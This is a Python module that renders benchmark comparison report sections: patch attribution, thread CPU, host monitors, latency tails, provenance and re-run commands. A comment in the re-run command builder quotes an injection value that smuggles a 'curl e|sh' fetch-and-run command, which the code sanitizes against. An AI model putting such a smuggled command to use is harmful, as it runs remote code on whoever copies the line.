"""The sections of a comparison report after its tables (analysis/reports/report.py builds the report): per-patch
attribution of a patch series, CPU per thread group, the rigs' own observations, and the provenance appendix
with the commands that re-run each set."""

import collections
import os
import re
import shlex
import statistics

from analysis import compare, distributions, resultsets, sequential, summary
from analysis.reports import monitor_series
from analysis.reports import plots
from analysis.profiling import profiles
from analysis.reports import render

JVM_FLAG_PREFIXES = ("-X", "--add-opens", "-Dsun.", "-Djdk.net")


def verdict(comparison, decl):
    """The comparison's words under the one rule (analysis/stats.decision_words; decl: unit, direction, min_effect)."""
    return comparison.verdict(decl["direction"], min_effect=decl.get("min_effect", 0.0))


def attribution_blocks(cells, metrics, declared, docs):
    """Patch-by-patch attribution, when prefixes of a series (patched:<set>@k) were measured."""
    applied = {}
    for d in docs:
        v = d.get("provenance", {}).get("variant", {})
        if v.get("applied"):
            applied[v["name"]] = v["applied"]
    blocks = []
    for metric in metrics:
        rows = compare.patch_attribution(cells, metric, applied)
        if not any(r.step > 1 for r in rows):
            continue  # one patch, or no prefix measured: the variant table above says it all
        if not blocks:
            blocks.append(render.Heading("Per-patch attribution"))
            blocks.append(render.Para("Each patch of a series against the build without it (its prefix one "
                                      "shorter; stock for the first), measured interleaved in the same run; "
                                      "same statistics as above, the interval split over the patches (Bonferroni)."))
        others = any(r.others for r in rows)
        blocks.append(render.TableBlock(
            ["k", "patch"] + (["other parameters"] if others else []) +
            ["without it", "with it", "change", "change " + next((compare.fmt_level(r.comparison) for r in rows
                                                                  if r.comparison.tested), "CI"), "verdict"],
            [[str(r.step), r.patch] + ([r.others] if others else []) +
             [compare.fmt_value(r.comparison.baseline_median), compare.fmt_value(r.comparison.candidate_median),
              f"{r.comparison.ratio - 1:+.1%}", compare.fmt_change_ci(r.comparison),
              verdict(r.comparison, declared[metric])] for r in rows],
            caption=f"{metric}: what each patch of {', '.join(sorted({r.patch_set for r in rows}))} changes"))
    return blocks


def _flatten(value, prefix=""):
    """Numeric leaves of a rig's observations, dotted keys; series, lists and wall-clock stamps left out."""
    out = {}
    if isinstance(value, dict):
        for k, v in value.items():
            if k in ("series", "trace") or k.endswith("epoch_ms"):
                continue
            out.update(_flatten(v, f"{prefix}{k}."))
    elif isinstance(value, (int, float)) and not isinstance(value, bool):
        out[prefix[:-1]] = float(value)
    return out


def ok_cells(docs, has):
    """[(label, ok docs)] per cell, in first-seen order, of the docs for which has(doc) is truthy; the label
    names the parameters that vary across all docs (or the cell id)."""
    by_cell = collections.OrderedDict()
    for d in docs:
        if d["status"] == "ok" and has(d):
            by_cell.setdefault(d["cell"]["id"], []).append(d)
    varying = _varying(docs)
    return [(" ".join(f"{k}={v}" for k, v in cell_docs[0]["cell"]["params"].items() if k in varying) or cid,
             cell_docs) for cid, cell_docs in by_cell.items()]


def thread_cpu_blocks(docs, out_dir):
    """Where the process' CPU went, per cell: the rig's `window.cpu_cores_by_thread_group` (e.g. the YARN
    rig's scheduler, dispatcher, simulator and GC threads), median per group over the cell's ok runs."""
    cells = ok_cells(docs, lambda d: ((d.get("observations") or {}).get("window") or {})
                      .get("cpu_cores_by_thread_group"))
    if not cells:
        return []
    rows, names = [], []
    for label, cell_docs in cells:
        shares = [d["observations"]["window"]["cpu_cores_by_thread_group"] for d in cell_docs]
        medians = {g: statistics.median(s.get(g, 0.0) for s in shares)
                   for g in {g for s in shares for g in s} if g != "process"}
        rows.append((label, medians))
        names += [g for g in medians if g not in names]
    names = [g for g in names if any(r[1].get(g, 0) >= 0.005 for r in rows)]
    path = plots.stacked_cores(os.path.join(out_dir, "thread_cpu.png"), "CPU by thread group", rows, names)
    blocks = [render.Heading("CPU by thread group"),
              render.Figure(path, "Where the process' CPU went over the measured window, per cell (CPUs busy, "
                                  "from each thread's run time; median of the cell's runs).")]
    for start in range(0, len(rows), 6):  # one column per cell, as the observation tables
        part = rows[start:start + 6]
        table = [[g] + [f"{m.get(g, 0.0):.2f}" for _, m in part] for g in names]
        table.append(["sum"] + [f"{sum(m.get(g, 0.0) for g in names):.2f}" for _, m in part])
        blocks.append(render.TableBlock(["thread group"] + [label for label, _ in part], table,
                                        caption="CPUs busy per thread group"))
    return blocks


MONITOR_CELLS = 8  # the report draws the host of this many cells; the rest are named in a line


def monitor_blocks(docs, out_dir):
    """The host during each cell's runs (the results' monitors, issue 63): per cell, each run's cores busy
    (user + system + iowait) and stolen over time, so a reader sees whether a slow run had a busy host; a table
    of each cell's largest steal and load. None for results measured before monitors were stored."""
    cells = ok_cells(docs, lambda d: (d.get("monitors") or {}).get("t"))
    if not cells:
        return []
    blocks = [render.Heading("The host during each cell")]
    rows = []
    for index, (label, cell_docs) in enumerate(cells):
        lines = [line for d in cell_docs for line in monitor_series.host_cpu_lines(d)]
        rows.append([label[:60], str(len(cell_docs)), f"{monitor_series.largest(cell_docs, 'host_cpu_steal_cores'):.2f}",
                     f"{monitor_series.largest(cell_docs, 'host_load1'):.2f}"])
        if index < MONITOR_CELLS:
            path = plots.series(os.path.join(out_dir, f"monitor_{index}.png"), f"host during {label}"[:90],
                                "cores", lines, xlabel=monitor_series.XLABEL)
            blocks.append(render.Figure(path, f"{label}: the host's cores busy (user + system + iowait) and "
                                              "stolen by the hypervisor, once a second, each run."))
    if len(cells) > MONITOR_CELLS:
        blocks.append(render.Para(f"{len(cells) - MONITOR_CELLS} more cells: their figures are left out; the table "
                                  "has them all."))
    blocks.append(render.TableBlock(["cell", "runs", "steal max (cores)", "load max"], rows,
                                    caption="The largest steal and load average any run of the cell saw."))
    return blocks


def tail_blocks(docs):
    """Latency tails per cell from its runs' merged distributions (analysis/distributions.py), ms with a 95 %
    bootstrap interval over runs; nothing for results that kept no distribution."""
    cells = ok_cells(docs, distributions.run_distributions)
    if not cells:
        return []
    rows, percents = [], []
    for label, cell_docs in cells:
        wanted = distributions.percents_of(cell_docs[0]["cell"]["params"])
        percents += [p for p in wanted if p not in percents]
        for test, tails in distributions.cell_tails(cell_docs, wanted).items():
            rows.append((label, test.upper(), tails))
    header = ["cell", "test", "runs"] + [distributions.tail_label(p) for p in percents]
    table = []
    for label, test, tails in rows:
        by_percent = {t.percent: t for t in tails}
        table.append([label, test, str(tails[0].runs)]
                     + [distributions.tail_text(by_percent[p]) if p in by_percent else "" for p in percents])
    return [render.Heading("Latency tails"),
            render.Para("Each cell's tails read from its runs' latency distributions merged (counts added, never "
                        "percentiles averaged), in ms, with a 95 % bootstrap interval over runs; a tail with "
                        f"fewer than {distributions.MIN_TAIL_REQUESTS} requests beyond it is not read."),
            render.TableBlock(header, table)]


def observation_tables(docs, per_table=6):
    """What the rig observed besides the metrics (e.g. window length, peak RSS, CPU per thread group), the
    median over each cell's ok repetitions; one column per cell."""
    cells = ok_cells(docs, lambda d: d.get("observations"))
    if not cells:
        return []
    columns, values = [], []
    for label, cell_docs in cells:
        flat = [_flatten(d["observations"]) for d in cell_docs]
        keys = set.intersection(*(set(f) for f in flat))
        values.append({k: statistics.median(f[k] for f in flat) for k in keys})
        columns.append(label)
    keys = sorted(set.intersection(*(set(v) for v in values)))
    blocks = [render.Heading("Rig observations"),
              render.Para("Median over each cell's measured repetitions of what the rig recorded besides the "
                          "metrics (its own units: _s seconds, _kb kibibytes, cores = CPUs busy).")]
    for start in range(0, len(columns), per_table):
        cols = columns[start:start + per_table]
        rows = [[k] + [compare.fmt_value(v[k]) if abs(v[k]) >= 100 else f"{v[k]:.3g}" for v in values[start:start + per_table]]
                for k in keys]
        blocks.append(render.TableBlock(["observation"] + cols, rows))
    return blocks


def provenance_appendix(measured, prepared):
    blocks = [render.Heading("Appendix: provenance")]
    for s in measured:
        d = s.first_ok()
        p = d["provenance"]
        host = p["host"]
        facts = resultsets.provenance(d)
        m = s.manifest.get("matrix", {})
        rows = [["result set", s.name], ["run", d["run_id"]], ["host", f"{facts['host']} ({host['host'].get('os', '')}, "
                                                                      f"{host['host'].get('kernel', '')})"],
                ["CPU", f"{facts['cpu']}, {host['cpu'].get('logical_cpus', '?')} logical CPUs, "
                        f"{len(host['numa'].get('nodes', []))} NUMA node(s)"],
                ["matrix", f"{m.get('name', d['matrix']['name'])} profile {m.get('profile') or '(default)'} "
                           f"overrides {' '.join(m.get('overrides') or []) or 'none'}"],
                ["workload", facts["workload"] + (f"; generated {facts['generated inputs']}" if facts["generated inputs"] else "")],
                ["harness", facts["harness"] + f", target {p['bazel_target']}"],
                ["variant", facts["variant"]]]
        jdks = sorted({f"{x['provenance']['jdk']['name']}: {x['provenance']['jdk'].get('vendor', '?')} "
                       f"{x['provenance']['jdk'].get('runtime_version', '?')}" for x in s.docs if x["provenance"].get("jdk")})
        rows.append(["JDKs", "; ".join(jdks)])
        revisions = sorted({f"{x['provenance']['revision']['name']} = {x['provenance']['revision']['commit'][:12]}"
                            for x in s.docs if x["provenance"].get("revision")})
        if revisions:
            rows.append(["revisions", "; ".join(revisions)])
        rows.append(["host reference", summary.host_reference_line(s.manifest).partition(": ")[2]
                     or "none recorded"])
        # Steal and load over the measurement windows, with the rounds outside the rig's A/A band (FLAGGED).
        rows.append(["host noise", summary.host_noise_line(s.docs, m.get("rig") or d["matrix"].get("rig"), s.manifest)
                     .partition(": ")[2] or "none recorded"])
        blocks.append(render.TableBlock(["fact", "value"], rows, caption=f"Result set {s.name}"))
        flag_rows, seen, varying = [], set(), _varying(s.docs)
        for x in s.docs:
            if x["status"] != "ok" or x["cell"]["id"] in seen:
                continue
            seen.add(x["cell"]["id"])
            flags = [a for a in x["provenance"]["command"] if a.startswith(JVM_FLAG_PREFIXES)]
            flags = [f if not f.startswith("-Djdk.net.hosts.file=") else "-Djdk.net.hosts.file=<generated>" for f in flags]
            ev = x.get("evidence", {})
            knob_ev = []
            for key in ("applied_host_knobs", "numa_nodes"):
                if ev.get(key):
                    knob_ev.append(f"{key}: {_compact(ev[key])}")
            for t in ev.get("threads") or []:
                knob_ev.append(f"thread {t['name']} (tid {t['tid']}) wanted CPU {t['wanted']}, allowed "
                               f"{t['cpus_allowed']}")
            if ev.get("thread_pinning_errors"):
                knob_ev.append("PINNING ERRORS: " + "; ".join(map(str, ev["thread_pinning_errors"])))
            status = ev.get("process_status") or {}
            if status:
                knob_ev.append(f"Cpus_allowed {status.get('Cpus_allowed_list', '?')}, HugetlbPages "
                               f"{status.get('HugetlbPages', '?')}")
            if x.get("problems"):
                knob_ev.append("PROBLEMS: " + "; ".join(x["problems"]))
            flag_rows.append([x["cell"]["id"], " ".join(f"{k}={v}" for k, v in x["cell"]["params"].items()
                                                        if k in varying),
                              " ".join(flags), "; ".join(knob_ev) or "-"])
        blocks.append(render.TableBlock(["cell", "parameters", "JVM flags", "knob evidence"], flag_rows,
                                        caption=f"Flags and knob evidence per cell ({s.name})"))
    return blocks


def _varying(docs):
    values = collections.defaultdict(set)
    for d in docs:
        for k, v in d["cell"]["params"].items():
            values[k].add(v)
    return {k for k, v in values.items() if len(v) > 1}


def _compact(value):
    if isinstance(value, dict):
        return ", ".join(f"{k}={_compact(v)}" for k, v in value.items())
    if isinstance(value, list):
        return ", ".join(_compact(v) for v in value)
    return str(value)


def rerun_commands(measured):
    out = []
    for s in measured:
        m = s.manifest.get("matrix", {})
        d = s.docs[0]
        target = d["provenance"]["bazel_target"] or "<the matrix target>"
        argv = ["bazel", "run", target, "--"]
        if m.get("profile"):
            argv += ["--profile", m["profile"]]
        for o in m.get("overrides") or []:
            argv += ["--set", o]
        argv += ["--seed", str(m.get("seed", d["matrix"]["seed"]))]
        # The comment is one line of printable text whatever the set holds (issue 39: a harness_commit of
        # "x\ncurl e|sh\n" put a command of its own on a line people copy); the command is shlex-quoted.
        commit = str(d["provenance"].get("harness_commit") or "")
        commit = commit[:12] if re.fullmatch(r"[0-9a-f]{7,40}(-dirty)?", commit) else "not a commit id"
        name = "".join(ch if ch.isprintable() else "?" for ch in " ".join(str(s.name).split()))
        out += [f"# {name} (harness {commit}):", shlex.join(argv)]
    return out


def sequential_blocks(measured):
    """Per set run under a sequential policy: how many rounds each comparison took and why it stopped."""
    blocks = []
    for s in measured:
        block = s.manifest.get("sequential")
        if block:
            blocks.append(render.TableBlock(
                ["comparison", "metric", "paired change", "repeated 95% CI", "rounds", "stopped"],
                sequential.stop_rows(block), caption=sequential.design_text(block)))
    return blocks


STORY_MOVERS = 10  # a story's "why" figure: the frames that moved most


def profile_blocks(result_sets, out_dir, flame=True, axis=None):
    """A page per profiled comparison and event (policy.profile, issue 60): its differential flame graph as a
    picture and the frames that moved most, each with its interval over runs; nothing for sets without
    profiles. flame=False (a story, issue 82): the top movers' changes with their intervals as the figure, the
    flame graph left to the appendix and the set's page. axis: only the comparisons of that axis (the question's),
    where it has any."""
    blocks = []
    for set_index, result_set in enumerate(result_sets):
        for event in profiles.profiled_events(result_set):
            blocks += event_blocks(result_set, event, os.path.join(out_dir, f"profile{set_index + 1}-{event}"), flame,
                                   axis)
        blocks += instruction_blocks(result_set)
    return blocks


def event_blocks(result_set, event, out_stem, flame=True, axis=None):
    """profile_blocks of one set and event; pictures at out_stem + "-N.png"."""
    blocks = []
    try:
        found = profiles.comparisons(result_set, event)
        if axis and any(c.axis == axis for c in found):
            found = [c for c in found if c.axis == axis]
    except profiles.ProfileTooCostly:
        raise  # not a profile tunelab wrote: the set is not rendered, with the reason (issue 78)
    except profiles.ProfileError as e:
        return [render.Heading("Profiles"), render.Para(f"The profiles could not be compared: {e}")]
    for index, c in enumerate(found):
        blocks.append(render.Heading(f"Profile ({event}): {c.label()}"))
        if not c.rows:
            blocks.append(render.Para("No profile on one side: " + "; ".join(c.missing[:3])))
            continue
        if flame:
            path = plots.flame_diff(f"{out_stem}-{index + 1}.png",
                                    f"{c.label()}: {event} samples, candidate against baseline",
                                    profiles.merged(c.baseline_runs), profiles.merged(c.candidate_runs))
            blocks.append(render.Figure(path, f"Differential flame graph, {len(c.baseline_runs)} baseline and "
                                              f"{len(c.candidate_runs)} candidate runs merged: movers "
                                              f"{profiles.one_line(c.rows)}."))
        else:
            top = c.rows[:STORY_MOVERS]
            path = plots.movers(f"{out_stem}-{index + 1}.png", f"What moved ({event} samples)",
                                [(m.short, m.change, m.low, m.high) for m in top], top[0].unit)
            blocks.append(render.Figure(path, f"The {len(top)} frames that moved most, {len(c.baseline_runs)} "
                                              f"baseline and {len(c.candidate_runs)} candidate runs: movers "
                                              f"{profiles.one_line(c.rows)}. The differential flame graph: the "
                                              "set's page, or this report with --appendix."))
        shown = c.rows if flame else c.rows[:STORY_MOVERS]
        rows = [[m.short, f"{m.baseline:.1f}", f"{m.candidate:.1f}", f"{m.change:+.1f}",
                 "-" if m.low != m.low else f"{m.low:+.1f}..{m.high:+.1f}",
                 "moved" if m.moved else ("noise" if m.low == m.low else "1 run")] for m in shown]
        blocks.append(render.TableBlock(["frame", "baseline", "candidate", "change", "interval", ""], rows,
                                        caption=f"Share of {event} samples in points; interval: Welch over "
                                                "runs, simultaneous over the table's frames"))
        if "gc" in c.axis.split("+") and c.gc_line():
            blocks.append(render.Para(c.gc_line()))
        for why in c.missing:
            blocks.append(render.Para(f"Left out: {why}"))
    return blocks


def instruction_blocks(result_set):
    """A table per comparison of counted instructions (Callgrind, Redis' measure=instructions): the functions
    whose own instructions per request moved most, each with its interval over runs."""
    blocks = []
    for c in profiles.instruction_comparisons(result_set):
        blocks.append(render.Heading(f"Per function, {c.event}: {c.label()}"))
        if not c.rows:
            blocks.append(render.Para("No per-function counts on one side: " + "; ".join(c.missing[:3])))
            continue
        rows = [[m.frame, f"{m.baseline:,.1f}", f"{m.candidate:,.1f}", f"{m.change:+,.1f}",
                 "-" if m.low != m.low else f"{m.low:+,.1f}..{m.high:+,.1f}",
                 "moved" if m.moved else ("noise" if m.low == m.low else "1 run")] for m in c.rows]
        blocks.append(render.TableBlock(["function", "baseline", "candidate", "change", "interval", ""], rows,
                                        caption="Self instructions per request (Callgrind, the whole dump: "
                                                "the function's own code and what it inlined); interval: Welch "
                                                "over runs, simultaneous over the table"))
        for why in c.missing:
            blocks.append(render.Para(f"Left out: {why}"))
    return blocks
